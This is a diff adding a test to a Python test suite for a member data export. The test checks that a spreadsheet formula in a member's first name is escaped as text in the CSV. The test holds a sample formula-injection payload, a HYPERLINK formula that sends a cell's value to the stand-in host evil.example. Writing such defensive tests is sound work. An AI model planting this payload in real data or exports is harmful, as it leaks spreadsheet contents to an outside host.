@@ -57,6 +57,13 @@ def test_the_download_is_a_zip_of_json_and_csv_with_profile_and_consents(member_
     assert [row[1:3] for row in rows[1:]] == [["newsletter", "given"], ["newsletter", "withdrawn"]]
 
 
+def test_a_formula_in_the_members_own_data_opens_as_text(member_client, member):
+    member.first_name = '=HYPERLINK("http://evil.example/?leak="&B2,"Voir")'
+    member.save(update_fields=["first_name"])
+    profile = dict(read_csv(download(member_client), "profile.csv")[1:])
+    assert profile["first_name"] == "'" + member.first_name
+
+
 def test_every_registered_section_is_in_the_zip(member_client):
     from hub.accounts.privacy import _export_sections, register_export_section
 
